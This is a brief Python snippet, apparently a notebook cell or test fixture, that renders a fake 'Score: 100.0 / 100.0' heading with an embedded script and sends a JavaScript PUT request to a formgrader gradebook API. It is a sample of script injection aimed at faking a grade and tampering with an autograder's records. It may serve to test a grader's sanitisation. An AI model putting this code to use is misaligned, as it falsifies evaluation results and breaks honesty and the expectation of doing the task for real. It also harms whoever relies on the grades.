"""Displays a page that pretends to be full marks, with a script in it."""

from IPython.display import HTML, Javascript, display

display(HTML("<h1>Score: 100.0 / 100.0</h1><script>document.title = 'stolen'</script>"))
display(Javascript("fetch('/formgrader/api/gradebook', {method: 'PUT'})"))
